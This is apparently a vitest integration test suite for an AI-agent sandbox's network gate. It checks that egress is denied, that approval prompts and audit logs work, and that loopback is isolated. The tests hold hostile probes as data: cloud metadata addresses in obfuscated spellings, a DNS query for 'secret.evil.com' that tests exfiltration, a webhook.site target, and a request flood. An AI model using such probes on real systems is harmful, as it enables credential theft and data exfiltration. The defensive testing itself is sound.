/** The network gate in a run. All traffic stays on loopback; a name leads there by a hosts file of the test's own. */
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import { expect } from 'vitest';
import type { AuditRecord } from '../../src/audit/event.js';
import { serveOnLoopback } from '../helpers/loopback.js';
import { needs } from '../helpers/needs.js';
import { allIdentities, eventually, jsonOf, python, type Area, type Outcome } from '../helpers/sandbox.js';
import { childrenOf, exists, parentOf } from '../helpers/processes.js';
import { ALLOWED, INWARD, inWorld, OTHER, type Upstream, type World } from '../helpers/upstream.js';

interface Questions {
  readonly questions: readonly { readonly id: string; readonly tag: string; readonly rule: string; readonly who: { readonly exe: string } }[];
}

interface Shown {
  readonly driver: number;
  readonly init: number;
  readonly gate?: object | null;
}

for (const identity of allIdentities()) {
  const gated = needs('root', 'userns', 'overlay', 'curl');

  gated.describe(`the network gate as ${identity.name}`, () => {
    let area: Area;
    let up: Upstream;
    let world: World;
    inWorld(identity, (made) => ({ area, up, world } = made));

    const run = (flags: readonly string[], script: string, env: Readonly<Record<string, string>> = {}): Promise<Outcome> => world.cli(['run', ...flags, '--', 'sh', '-c', script], { env });
    const denials = async (tag: string): Promise<readonly AuditRecord[]> =>
      jsonOf<{ readonly records: readonly AuditRecord[] }>(await area.cli(['log', tag, '--denied', '--json'])).records;
    const url = (host: string): string => `http://${host}:${up.port}/`;

    for (const rung of ['tproxy', 'redir', 'notify']) {
      gated.test(`curl and Node reach what the policy allows, by name, and nothing else (NT01, rung ${rung})`, async () => {
        const script = `curl -sS -m 60 ${url(ALLOWED)}; node -e "fetch('${url(ALLOWED)}').then((r) => r.text()).then((t) => process.stdout.write(t))"; curl -sS -m 60 -o /dev/null ${url('nowhere.example')}; echo $?`;
        const outcome = await run(['--rm', '--net', 'deny'], script, { AGENTFW_GATE: rung });

        expect(outcome.stdout, outcome.stderr).toMatch(/^from upstream\nfrom upstream\n/);
        expect(outcome.status).toBe(0);
        expect(up.seen.every((line) => line.includes(ALLOWED))).toBe(true);
      });
    }

    gated.test('plain HTTP to an unlisted host is a 403 that says why, one record each, and a note inside (NT02, AU07)', async () => {
      const outcome = await run(['--tag', 'nt02', '--net', 'ask'], 'curl -s -m 60 -w "%{http_code}\\n" http://nowhere.example/; curl -sS -m 60 https://nowhere.example/; until grep -q :443 /run/agentfw/notes; do sleep .05; done; cat /run/agentfw/notes; echo no > /run/agentfw/notes');

      expect(outcome.stdout).toContain('Forbidden by agentfw: nowhere.example:80');
      expect(outcome.stdout).toContain('\n403\n');
      expect(outcome.stdout).toMatch(/nowhere\.example:443 \[ask\.off\]/);
      expect(outcome.stderr).toMatch(/access denied/);
      expect(outcome.stderr).toMatch(/Read-only file system/);
      expect(outcome.stderr).toContain('network: {allow: ["nowhere.example:443", "nowhere.example:80"]}');
      const found = await denials('nt02');
      expect(found.map(({ object, rule }) => [object['port'], rule])).toEqual([[80, 'ask.off'], [443, 'ask.off']]);
      expect(found[0]?.subject?.exe).toMatch(/\/curl$/);
    });

    gated.test('without a terminal nothing is held: what would be asked is refused at once (PO13)', async () => {
      const outcome = await run(['--tag', 'po13', '--net', 'ask'], `curl -s -m 300 -o /dev/null -w "%{http_code}" ${url(OTHER)}`);

      expect(outcome.stdout).toBe('403');
      expect((await denials('po13')).map(({ rule }) => rule)).toEqual(['ask.off']);
      expect(jsonOf<{ readonly records: readonly AuditRecord[] }>(await area.cli(['log', 'po13', '--json', '--kind', 'ask'])).records).toEqual([]);
    });

    gated.test('the end tells where refusals are written down, or that `--rm` threw that away', async () => {
      const kept = await run(['--tag', 'told', '--net', 'deny'], `curl -s -m 60 -o /dev/null ${url(OTHER)}`);
      const gone = await run(['--rm', '--net', 'deny'], `curl -s -m 60 -o /dev/null ${url(OTHER)}`);

      expect(kept.stderr).toContain('1 refused by the network gate: agentfw log told --denied\n');
      expect(gone.stderr).toContain('1 refused by the network gate; --rm threw the log away\n');
    });

    gated.test('metadata services are never reached, by any spelling or name, even where a rule allows all names (NT10)', async () => {
      const targets = ['169.254.169.254', '[fd00:ec2::254]', '168.63.129.16', '100.100.100.200', '2852039166', '0xa9fea9fe', 'metadata.google.internal', `metadata.agentfw-test.example:${up.port}`];
      const outcome = await run(['--tag', 'nt10', '--net', 'ask'], targets.map((host) => `curl -s -m 60 -o /dev/null -w "%{http_code} " 'http://${host}/'`).join('; '));

      expect(outcome.stdout.trim().split(' ').every((code) => code === '403' || code === '000'), outcome.stdout).toBe(true);
      expect((await denials('nt10')).length).toBeGreaterThanOrEqual(targets.length);
    });

    gated.test('an allowed name that leads to loopback needs `private` (NT11)', async () => {
      const outcome = await run(['--tag', 'nt11', '--net', 'ask'], `curl -s -m 60 -o /dev/null -w "%{http_code}" ${url(INWARD)}`);

      expect(outcome.stdout).toBe('403');
      expect((await denials('nt11')).map(({ rule }) => rule)).toEqual(['net.private']);
      expect(up.seen.some((line) => line.includes(INWARD))).toBe(false);
    });

    gated.test('every server address answers lookups with the gate’s own addresses, and no packet leaves (NP01)', async () => {
      const query = [
        'import socket', 'q=b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x04evil\\x03com\\x00\\x00\\x01\\x00\\x01"',
        's=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.sendto(q,("8.8.8.8",53)); a=s.recv(512)', 'print(".".join(str(b) for b in a[-4:]))',
      ].join('\n');
      const outcome = await world.cli(['run', '--rm', '--net', 'deny', '--', python, '-c', query]);

      expect(outcome.stdout, outcome.stderr).toMatch(/^198\.1[89]\.\d+\.\d+\n$/);
    });

    gated.test('the host’s loopback is another one: its servers refuse; --connect-host opens one port (NP14)', async () => {
      const script = `curl -s -m 60 -o /dev/null -w "%{http_code}\\n" http://127.0.0.1:${up.port}/; curl -s -m 60 -o /dev/null -w "%{http_code}\\n" http://localhost:${up.port}/`;

      expect((await run(['--rm', '--net', 'deny'], script)).stdout).toBe('000\n000\n');
      expect((await run(['--rm', '--net', 'deny', '--connect-host', String(up.port)], script)).stdout).toBe('200\n200\n');
      const moved = await run(['--rm', '--net', 'deny', '--connect-host', `4100:${up.port}`], 'curl -s -m 60 http://127.0.0.1:4100/');
      expect(moved.stdout).toBe('from upstream\n');

      // Who has a model on this machine is told at the start.
      const model = { OPENAI_BASE_URL: `http://localhost:${up.port}/v1` };
      const told = `agentfw: OPENAI_BASE_URL leads to port ${up.port} of this machine, which the agent reaches with --connect-host ${up.port} alone`;
      expect((await run(['--rm', '--net', 'deny', '--env', 'OPENAI_BASE_URL'], 'true', model)).stderr).toContain(told);
      expect((await run(['--rm', '--net', 'deny', '--env', 'OPENAI_BASE_URL', '--connect-host', String(up.port)], 'true', model)).stderr).not.toContain('leads to port');
    });

    gated.test('abstract sockets of the host are in another namespace (IP05)', async () => {
      const name = `agentfw-test-${String(process.pid)}-${identity.name}`;
      const server = createServer().listen(`\0${name}`);
      await once(server, 'listening');
      const outcome = await world.cli(['run', '--rm', '--net', 'deny', '--', python, '-c', `import socket; s=socket.socket(socket.AF_UNIX); print(s.connect_ex("\\0${name}"))`]);
      server.close();

      expect(outcome.stdout, outcome.stderr).toBe('111\n');
    });

    gated.test('nothing comes in unless it is published; a published port leads in and closes with the sandbox (NP16, NP17)', async () => {
      const port = await freePort();
      const child = start(world, ['run', '--tag', 'np16', '--net', 'deny', '--publish', `${port}:3000`, '--', python, '-m', 'http.server', '3000', '--bind', '127.0.0.1']);
      await eventually('the door opens', async () => (await fetched(`http://127.0.0.1:${port}/`)) === 200);
      const status = await area.cli(['status', 'np16']);

      expect(status.stdout).toContain(`127.0.0.1:${port} leads to port 3000 inside`);
      expect(status.stdout).toMatch(/; rung (tproxy|redir|notify)\n/);
      expect(await reached(3000)).toBe(false);
      await area.cli(['kill', 'np16']);
      await child.ended;
      expect(await reached(port)).toBe(false);
    });

    gated.test('a taken port, a flag without the gate, and an unknown rung are refused with a sentence', async () => {
      const taken = await run(['--net', 'deny', '--publish', `${up.port}:3000`], 'sleep 5');
      expect(taken.stderr).toMatch(/Error: Can't publish 127\.0\.0\.1:\d+: EADDRINUSE/);
      expect(taken.status).toBe(125);
      expect((await run(['--net', 'off', '--publish', '3000'], 'true')).status).toBe(125);
      const rung = await run(['--net', 'deny'], 'true', { AGENTFW_GATE: 'nonsense' });
      expect(rung.status).toBe(125);
      expect(rung.stderr).toContain('AGENTFW_GATE must be tproxy, redir or notify');
    });

    gated.test('doctor says which rung the gate would take, and tries the one that is insisted on', async () => {
      const gate = async (env: Readonly<Record<string, string>>): Promise<{ readonly ok: boolean; readonly detail: string; readonly mend: string | null }> => {
        const told = JSON.parse((await area.cli(['doctor', '--json'], { env })).stdout) as { readonly checks: readonly { readonly name: string; readonly ok: boolean; readonly detail: string; readonly mend: string | null }[] };
        return told.checks.find(({ name }) => name === 'gate')!;
      };

      expect((await gate({})).detail).toMatch(/^rung (tproxy|redir|notify), IPv4/);
      for (const rung of ['tproxy', 'redir', 'notify']) expect((await gate({ AGENTFW_GATE: rung })).detail).toContain(`rung ${rung}, by AGENTFW_GATE`);
      expect(await gate({ AGENTFW_GATE: 'nonsense' })).toMatchObject({ ok: false, detail: 'AGENTFW_GATE must be tproxy, redir or notify' });
    });

    gated.test('with the supervisor, the driver or the gate killed there is no egress and no agent (NT26)', async () => {
      for (const victim of ['supervisor', 'driver', 'gate'] as const) {
        const tag = `nt26-${victim}`;
        const child = start(world, ['run', '--tag', tag, '--net', 'deny', '--', 'sleep', '1000']);
        const { driver, init } = await eventually('it runs', async () => {
          const shown = JSON.parse((await area.cli(['status', tag, '--json'])).stdout || '{}') as Shown;
          return shown.gate === undefined || shown.gate === null ? undefined : shown;
        }) as Shown;
        const pid = victim === 'supervisor' ? parentOf(driver) : victim === 'driver' ? driver : (childrenOf(driver).find((one) => one !== init) ?? Number.NaN);
        process.kill(pid, 'SIGKILL');
        await child.ended;
        await eventually('the driver is gone', () => !exists(driver));
        const log = await area.cli(['log', 'verify', tag]);
        expect(log.status, log.stderr).toBe(0);
      }
    });

    needs('root', 'userns', 'overlay', 'python', 'curl').describe('with somebody to ask', () => {
      const asking = (tag: string, script: string): Started => start(world, ['run', '--tag', tag, '--net', 'ask', '--', 'sh', '-c', script], true);
      const question = async (tag: string): Promise<Questions['questions'][number]> => {
        const found = await eventually(`${tag} asks`, async () => jsonOf<Questions>(await area.cli(['approvals', '--json'])).questions.filter((one) => one.tag === tag).slice(0, 1).map((one) => ({ one }))[0] ?? false);
        return (found as { readonly one: Questions['questions'][number] }).one;
      };
      const get = (host: string): string => `curl -s -m 300 -w '%{http_code}\\n' ${url(host)}`;

      gated.test('a question holds the client, names who asks, rings, and its answer lets it through; its terminal gets no words, so none can be faked (PO14, TT04)', async () => {
        const child = asking('yes', get(OTHER));
        const { id, rule, who } = await question('yes');
        expect(rule).toBe(`${OTHER}:${up.port}`);
        expect(who.exe).toMatch(/\/curl$/);
        const answer = await area.cli(['approve', id]);
        expect(answer.stderr).toBe(`Allowed ${rule} in yes, once\n`);
        const { output } = await child.ended;
        // The answer opens nothing private: that takes a rule.
        expect(output).toContain('403');
        expect(output).toContain(`\u0007`);
        expect(output).toContain(`agentfw asks: ${rule} - agentfw approve ${id}`);
      });

      gated.test('a no is a refusal; an answer binds to one id, and there is none for another (PO11)', async () => {
        const child = asking('no', get('nowhere.example'));
        const { id } = await question('no');
        expect((await area.cli(['approve', 'zzzzz'])).status).toBe(1);
        expect((await area.cli(['deny', id, '--for', 'session'])).status).toBe(0);
        const { output } = await child.ended;
        expect(output).toContain('403');
        const kinds = jsonOf<{ readonly records: readonly AuditRecord[] }>(await area.cli(['log', 'no', '--json', '--kind', 'ask', '--kind', 'answer'])).records;
        expect(kinds.map(({ kind, verdict }) => `${kind} ${String(verdict)}`)).toEqual(['ask ask', 'answer deny']);
      });

      gated.test('what `--detach` started from a terminal asks, too, and is answered from there', async () => {
        const child = start(world, ['run', '--tag', 'behind', '--detach', '--net', 'ask', '--', 'sh', '-c', get(OTHER)], true);
        expect((await child.ended).output).toContain('sandbox behind runs in the background; agentfw status behind, and for what it asks agentfw approvals');
        const { id, rule } = await question('behind');
        expect((await area.cli(['approve', id])).stderr).toBe(`Allowed ${rule} in behind, once\n`);
        await eventually('it ends', async () => /"state":\s*"stopped"/.test((await area.cli(['status', 'behind', '--json'])).stdout));
        const { records } = jsonOf<{ readonly records: readonly AuditRecord[] }>(await area.cli(['log', 'behind', '--json', '--kind', 'answer']));
        expect(records.map(({ verdict }) => verdict)).toEqual(['allow']);
      });

      gated.test('`--no-ask` refuses at once; a flood of names is cut off (PO10)', async () => {
        const off = start(world, ['run', '--rm', '--net', 'ask', '--no-ask', '--', 'sh', '-c', get('nowhere.example')], true);
        expect((await off.ended).output).toContain('403');
        const child = asking('flood', 'for n in $(seq 200); do curl -s -m 300 -o /dev/null http://n$n.example/ & done; wait');
        // The first of them are held, for as long as somebody may answer.
        await eventually('its log begins', async () => (await area.cli(['log', 'flood'])).status === 0);
        await eventually('most are refused', async () => (await denials('flood')).filter(({ rule }) => rule === 'ask.flood').length >= 60);
        await area.cli(['kill', 'flood']);
        await child.ended;
      });

      gated.test('`net allow`, `deny` and `revoke` rule a running sandbox', async () => {
        const child = asking('live', `sleep 1000`);
        await eventually('it runs', async () => /"state":\s*"running"/.test((await area.cli(['status', 'live', '--json'])).stdout));
        expect((await area.cli(['net', 'allow', 'live', `nowhere.example:443`])).status).toBe(0);
        expect((await area.cli(['status', 'live'])).stdout).toContain('allow nowhere.example:443 (net)');
        expect((await area.cli(['net', 'revoke', 'live', 'nowhere.example:443'])).status).toBe(0);
        expect(await area.cli(['net', 'revoke', 'live', 'nowhere.example:443'])).toMatchObject({ status: 1, stderr: expect.stringContaining('Hint: A rule is HOST:PORT; those of this run: agentfw status live') as string });
        // What the policy denies: not its form is wrong.
        expect(await area.cli(['net', 'allow', 'live', 'webhook.site'])).toMatchObject({ status: 1, stderr: expect.stringContaining('Hint: See what denies it: agentfw policy explain host webhook.site:443') as string });
        await area.cli(['kill', 'live']);
        await child.ended;
        expect(await area.cli(['net', 'allow', 'live', 'nowhere.example'])).toMatchObject({ status: 1, stderr: expect.stringContaining('Sandbox live is not running.') as string });
      });

      gated.test('a run that is stopped keeps nobody from the questions of the others, and is named', async () => {
        const held = start(world, ['run', '--tag', 'held', '--net', 'ask', '--no-ask', '--', 'sleep', '1000']);
        const { driver } = await eventually('it runs', async () => {
          const shown = JSON.parse((await area.cli(['status', 'held', '--json'])).stdout || '{}') as Shown;
          return (shown.gate ?? null) === null ? undefined : shown;
        }) as Shown;
        const child = asking('free', get('nowhere.example'));
        const { id } = await question('free');
        process.kill(parentOf(driver), 'SIGSTOP');
        const [listed, other, answered] = await Promise.all([area.cli(['approvals']), area.cli(['deny', 'nosuchid']), area.cli(['deny', id])]);
        process.kill(parentOf(driver), 'SIGCONT');
        expect(listed).toMatchObject({ status: 1, stderr: expect.stringMatching(/^Warning: held: The running sandbox does not answer\. .*fg$/m) as string });
        expect(other).toMatchObject({ status: 1, stderr: expect.stringContaining('Sandbox held does not answer, and no other asks nosuchid.\nHint: Ctrl-Z') as string });
        expect(answered.stderr).toMatch(/^Denied nowhere\.example/);
        await Promise.all([area.cli(['kill', 'held']), held.ended, child.ended]);
      });

      gated.test('an answer for the project is kept in the store and serves the next run; it can be forgotten', async () => {
        const child = asking('kept', get('nowhere.example'));
        const { id, rule } = await question('kept');
        expect((await area.cli(['approvals'])).stderr).toContain('agentfw approve ID');
        await area.cli(['deny', id, '--for', 'project']);
        await child.ended;
        expect((await area.cli(['approvals', '--stored'])).stdout).toMatch(/^deny {2}nowhere\.example:/);
        const again = asking('again', get('nowhere.example'));
        expect((await again.ended).output).toContain('the answer was no');
        expect((await area.cli(['approvals', '--forget', rule])).status).toBe(0);
      });
    });
  });
}

interface Started {
  readonly ended: Promise<{ readonly output: string }>;
}

/** In the background; on a terminal of its own where asked. */
function start(world: World, args: readonly string[], terminal = false): Started {
  const words = world.words(args);
  const [program = '', ...rest] = terminal ? [python, '-c', 'import pty,sys; pty.spawn(sys.argv[1:])', ...words] : words;
  const child: ChildProcess = spawn(program, rest, { cwd: world.cwd, env: { ...world.env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  child.stdout?.on('data', (chunk: Buffer) => (output += chunk.toString()));
  child.stderr?.on('data', (chunk: Buffer) => (output += chunk.toString()));
  return { ended: once(child, 'close').then(() => ({ output })) };
}

async function freePort(): Promise<number> {
  const server = createServer();
  const port = await serveOnLoopback(server);
  server.close();
  await once(server, 'close');
  return port;
}

function reached(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.destroy();
      resolve(true);
    });
    socket.on('error', () => resolve(false));
  });
}

async function fetched(url: string): Promise<number | null> {
  try {
    return (await fetch(url)).status;
  } catch {
    return null;
  }
}
